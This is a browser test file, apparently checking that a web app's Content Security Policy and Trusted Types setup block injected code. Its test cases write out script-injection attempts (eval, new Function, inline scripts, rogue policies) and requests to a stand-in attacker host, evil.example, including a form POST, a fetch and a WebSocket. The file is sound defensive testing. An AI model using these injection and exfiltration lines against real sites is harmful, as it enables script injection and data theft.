import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AppBrowser, type OpenApp, startBrowser } from './browser.ts';

let browser: AppBrowser;
let app: OpenApp;
beforeAll(async () => {
	browser = await startBrowser();
	app = await browser.open();
	await app.page.getByRole('heading', { name: /^Pick the teacher/ }).waitFor();
});
afterAll(() => browser.close());

/** Runs later, because what a test runs at once goes past the policy. */
const later = (code: string): string =>
	`new Promise((done) => setTimeout(() => {
		try { ${code}; done('ran'); } catch (error) { done(error.name); }
	}))`;

/** What somebody would try who got a script in. Each must be refused, and be noticed by every test. */
describe('the policy', () => {
	it.each([
		['text that becomes HTML', "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')"],
		['text that becomes a script', "eval('window.ran = 1')"],
		['a function made of text', "new Function('window.ran = 1')()"],
		[
			'an inline script',
			"Object.assign(document.body.appendChild(document.createElement('script')), { text: 'window.ran = 1' })"
		],
		['a second default policy', "trustedTypes.createPolicy('default', {})"],
		['another policy', "trustedTypes.createPolicy('mine', { createHTML: (x) => x })"]
	])('refuses %s', async (_, code) => {
		app.complaints.policyViolations.length = 0;
		app.complaints.consoleErrors.length = 0;
		expect(await app.page.evaluate(later(code))).not.toBe('ran');
		const noticed = () => [...app.complaints.policyViolations, ...app.complaints.consoleErrors];
		await expect.poll(() => noticed().length).toBeGreaterThan(0);
		expect(await app.page.evaluate('typeof ran')).toBe('undefined');
	});

	it.each([
		['a worker of another host', "new Worker('https://evil.example/x.js')"],
		['a worker of data', "new Worker('data:text/javascript,postMessage(1)')"],
		['a worker of a blob', "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))"]
	])('does not start %s', async (_, code) => {
		expect(await app.page.evaluate(later(code))).toBe('TypeError');
	});

	it.each([
		[
			'a picture of another host',
			"document.body.append(Object.assign(new Image(), { src: 'https://evil.example/p.png' }))"
		],
		[
			'a frame',
			"document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example' }))"
		],
		[
			'a style of another host',
			"document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' }))"
		],
		[
			'a form',
			"document.body.append(Object.assign(document.createElement('form'), { action: 'https://evil.example', method: 'post' })); document.forms[0].submit()"
		],
		['a socket', "new WebSocket('wss://evil.example')"]
	])('asks nobody else for %s', async (_, code) => {
		app.complaints.policyViolations.length = 0;
		await app.page.evaluate(later(code));
		await expect.poll(() => app.complaints.policyViolations.length).toBeGreaterThan(0);
	});

	it('lets a test notice a request and a dialog', async () => {
		await app.page.evaluate(later("fetch('https://evil.example/x').catch(() => 0); alert('x')"));
		await expect.poll(() => app.complaints.dialogs).toEqual(['x']);
		await expect.poll(() => app.complaints.foreignRequests).toContain('https://evil.example/x');
	});

	it('holds in workers too', async () => {
		const worker = app.page.workers().find((one) => one.url().includes('db-worker'))!;
		for (const code of [
			"eval('self.ran = 1')",
			"new Worker('https://evil.example/x.js')",
			"trustedTypes.createPolicy('mine', {})"
		]) {
			expect(await worker.evaluate(later(code))).not.toBe('ran');
		}
		expect(await worker.evaluate('typeof ran')).toBe('undefined');
	});
});
